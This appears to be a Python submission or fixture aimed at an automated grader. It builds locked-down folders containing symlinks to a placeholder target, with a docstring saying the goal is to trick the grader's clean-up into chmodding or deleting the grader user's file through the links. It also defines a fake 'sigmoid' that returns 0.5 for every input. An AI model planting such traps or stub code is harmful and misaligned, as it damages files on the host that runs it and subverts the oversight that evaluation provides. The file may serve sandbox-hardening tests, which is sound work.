"""Leaves its folder hard to remove: an unreadable, unwritable subfolder holding a symlink to a
file of the grader's user, hoping the clean-up chmods or deletes through the link."""
import os

os.makedirs("trap/inner")
os.symlink("__TARGET__", "trap/inner/link")
os.symlink("__TARGET__", "trap/link")
os.chmod("trap/inner", 0)
os.chmod("trap", 0o500)


def sigmoid(x):
    return 0.5
